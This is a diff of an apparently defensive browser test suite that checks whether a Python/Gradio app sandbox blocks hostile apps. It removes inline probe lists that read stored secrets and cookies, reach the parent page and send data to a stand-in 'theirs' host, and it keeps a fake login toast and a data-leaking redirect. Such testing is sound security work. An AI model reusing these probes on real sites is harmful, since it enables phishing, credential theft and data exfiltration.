@@ -11,9 +11,10 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from bench import START, Bench
 from conftest import Quiet, Watch
 from playwright.sync_api import Page, expect
+from tintype.links import Project, encode
+from workbench import START, Bench
 
 NOISE = (
     r"Content.Security.Policy",
@@ -66,37 +67,23 @@ def bench(page: Page, watch: Watch, site: str) -> Bench:
     return Bench(page, site)
 
 
+HOSTILE = Path(__file__).parent / "hostile"
+
+
+def app_of(code: str, ours: str, theirs: str, *files: str) -> str:
+    """A link's fragment with a hostile app and what it tries."""
+    held = {name: (HOSTILE / name).read_bytes() for name in files}
+    main = code.replace("{ours}", ours).replace("{theirs}", theirs).encode()
+    return encode(Project({"app.py": main, **held}))
+
+
 IN_PYTHON = """
-import json
+from pathlib import Path
 import gradio as gr
 import js
 
-OURS, THEIRS = "{ours}", "{theirs}"
-TRIES = {
-    "fetch ours": "fetch('%s/apps/index.html').then(r => r.text())" % OURS,
-    "fetch the page itself": "fetch('%s/playground/site.json').then(r => r.text())" % OURS,
-    "fetch another": "fetch('%s/fetch').then(r => r.text())" % THEIRS,
-    "fetch another, unread": "fetch('%s/unread', {mode: 'no-cors'})" % THEIRS,
-    "post to another": "fetch('%s/post', {method: 'POST', body: 'x'})" % THEIRS,
-    "request": "(() => { const x = new XMLHttpRequest(); x.open('GET', '%s/xhr', false); x.send(); return 1 })()" % THEIRS,
-    "import": "import('%s/module.js')" % THEIRS,
-    "socket": "new Promise((y, n) => { const s = new WebSocket('%s/ws'); s.onopen = y; s.onerror = n })" % THEIRS.replace("http", "ws"),
-    "events": "new Promise((y, n) => { const s = new EventSource('%s/events'); s.onopen = y; s.onerror = n })" % THEIRS,
-    "worker in a worker": "new Promise((y, n) => { const w = new Worker('data:text/javascript,fetch(`%s/nested`).then(() => postMessage(1), () => postMessage(0))', {type: 'module'}); w.onmessage = (e) => e.data ? y() : n(); w.onerror = n })" % THEIRS,
-    "database": "new Promise((y, n) => { const r = indexedDB.open('ours'); r.onsuccess = y; r.onerror = n })",
-    "caches": "caches.open('ours').then(c => c.match('/secret')).then(r => r.text())",
-    "storage": "Promise.resolve(localStorage.getItem('secret'))",
-    "files": "navigator.storage.getDirectory()",
-    "cookies": "cookieStore.get('secret').then(c => c.value)",
-}
-
 async def attack():
-    found = {}
-    for name, code in TRIES.items():
-        tried = "(async () => { await (%s) })().then(() => 'reached', () => 'stopped')" % code
-        late = "new Promise((yes) => setTimeout(yes, 3000, 'stopped'))"
-        found[name] = await js.eval("Promise.race([%s, %s])" % (tried, late))
-    return json.dumps(found)
+    return await js.eval(Path("worker.js").read_text())("{ours}", "{theirs}")
 
 with gr.Blocks() as demo:
     run = gr.Button("Attack")
@@ -111,8 +98,7 @@ def test_python_reaches_no_network_and_no_storage(
 ) -> None:
     """Neither ours nor another's, by whatever the worker has; what the visitor allows, and only that."""
     theirs, came = elsewhere
-    code = IN_PYTHON.replace("{ours}", site).replace("{theirs}", theirs)
-    bench.visit_code(code)
+    bench.visit(app_of(IN_PYTHON, site, theirs, "worker.js"))
     assert bench.page.locator("iframe").count() == 0  # nothing runs by itself
     bench.run().state("ready").press("Attack")
     field = bench.app.get_by_label("found")
@@ -132,49 +118,13 @@ def test_python_reaches_no_network_and_no_storage(
 
 
 IN_THE_PAGE = """
+from pathlib import Path
 import gradio as gr
 
-JS = '''async () => {
-  const ours = "{ours}", theirs = "{theirs}";
-  const soon = (act) => new Promise((yes, no) => { act(yes, no); setTimeout(() => no(new Error("nothing")), 1500) });
-  const tries = {
-    "local storage": () => localStorage.getItem("secret"),
-    "session storage": () => sessionStorage.length,
-    "cookies": () => { if (!document.cookie.includes("secret")) throw new Error("none") },
-    "database": () => soon((yes, no) => { const r = indexedDB.open("ours"); r.onsuccess = yes; r.onerror = no }),
-    "caches": () => caches.open("ours"),
-    "service worker": () => navigator.serviceWorker.register("/sw.js"),
-    "parent's document": () => parent.document.body.innerHTML,
-    "parent's storage": () => parent.localStorage.getItem("secret"),
-    "parent's address": () => parent.location.href,
-    "top's address": () => { top.location.href = theirs + "/top" },
-    "a window": () => { if (window.open(theirs + "/window") === null) throw new Error("none") },
-    "fetch ours": () => fetch(ours + "/apps/index.html"),
-    "fetch another": () => fetch(theirs + "/fetch"),
-    "a picture": () => soon((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = theirs + "/picture" }),
-    "a script": () => soon((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = theirs + "/script.js"; document.head.append(s) }),
-    "a style": () => soon((yes, no) => { const s = document.createElement("link"); s.rel = "stylesheet"; s.onload = yes; s.onerror = no; s.href = theirs + "/style"; document.head.append(s) }),
-    "a prefetch": () => soon((yes, no) => { const s = document.createElement("link"); s.rel = "prefetch"; s.onload = yes; s.onerror = no; s.href = theirs + "/prefetch"; document.head.append(s) }),
-    "a frame": () => soon((yes, no) => { const f = document.createElement("iframe"); f.src = theirs + "/frame"; f.onload = () => setTimeout(no, 500); document.body.append(f) }),
-    "a form": () => soon((yes, no) => { const f = document.createElement("form"); f.action = theirs + "/form"; f.method = "post"; document.body.append(f); f.submit() }),
-    "a beacon": () => { if (!navigator.sendBeacon(theirs + "/beacon", "x")) throw new Error("none"); throw new Error("the other site knows") },
-    "the browser's own camera": () => MediaDevices.prototype.getUserMedia.call(navigator.mediaDevices, {video: true}),
-    "the place": () => soon((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
-    "the whole screen": () => document.body.requestFullscreen(),
-    "a dialog": () => { if (confirm("Tintype: log in again") === false) throw new Error("none") },
-    "a socket": () => soon((yes, no) => { const s = new WebSocket(theirs.replace("http", "ws")); s.onopen = yes; s.onerror = no }),
-    "calls": () => new RTCPeerConnection(),
-    "a forged letter": () => { parent.postMessage({wish: {kind: "camera"}, news: {kind: "python", state: "owned"}}, "*"); throw new Error("nobody hears") },
-  };
-  const found = {};
-  for (const [name, act] of Object.entries(tries)) {
-    try { await act(); found[name] = "reached" } catch { found[name] = "stopped" }
-  }
-  return JSON.stringify(found);
-}'''
+ATTACK = "() => " + Path("page.js").read_text().split("\\n", 1)[1].rstrip() + '("{ours}", "{theirs}")'
 SPOOF = '''() => {
   const toast = document.createElement("div");
-  toast.style = "position: fixed; inset: -200px 0 auto 0; height: 400px; z-index: 2147483647; background: white";
+  toast.style = "position: fixed; inset: -200px 0 auto 0; height: 400px; z-index: 2147483647";
   toast.innerHTML = "<p role=alert>Tintype: your session is over. <button>Log in</button></p>";
   document.body.append(toast);
   return "spoofed";
@@ -183,11 +133,11 @@ ASK = '''async () => {
   try { await navigator.mediaDevices.getUserMedia({video: true}); return "seen" }
   catch (error) { return error.name }
 }'''
-LEAVE = "() => { location.href = '{theirs}/left?all=' + document.body.innerText.length; return 'gone' }"
+LEAVE = "() => { location.href = '{theirs}/left?all=' + document.body.innerText.length }"
 
 with gr.Blocks() as demo:
     out = gr.Textbox(label="found")
-    for name, js in {"Attack": JS, "Spoof": SPOOF, "Ask": ASK, "Leave": LEAVE}.items():
+    for name, js in {"Attack": ATTACK, "Spoof": SPOOF, "Ask": ASK, "Leave": LEAVE}.items():
         gr.Button(name).click(None, None, out, js=js)
 demo.launch()
 """
@@ -196,10 +146,10 @@ demo.launch()
 def test_a_page_in_its_frame_gets_out_by_no_way(
     bench: Bench, elsewhere: tuple[str, list[str]], site: str
 ) -> None:
-    """Storage, the page around it, the network, windows, the camera unasked, a toast like ours, another page."""
+    """Storage, the page around it, the network, windows, the camera unasked, a toast like ours."""
     theirs, came = elsewhere
     page = bench.page
-    bench.visit_code(IN_THE_PAGE.replace("{ours}", site).replace("{theirs}", theirs))
+    bench.visit(app_of(IN_THE_PAGE, site, theirs, "page.js"))
     bench.run().state("ready").press("Attack")
     field = bench.app.get_by_label("found")
     expect(field).not_to_have_value("", timeout=START)
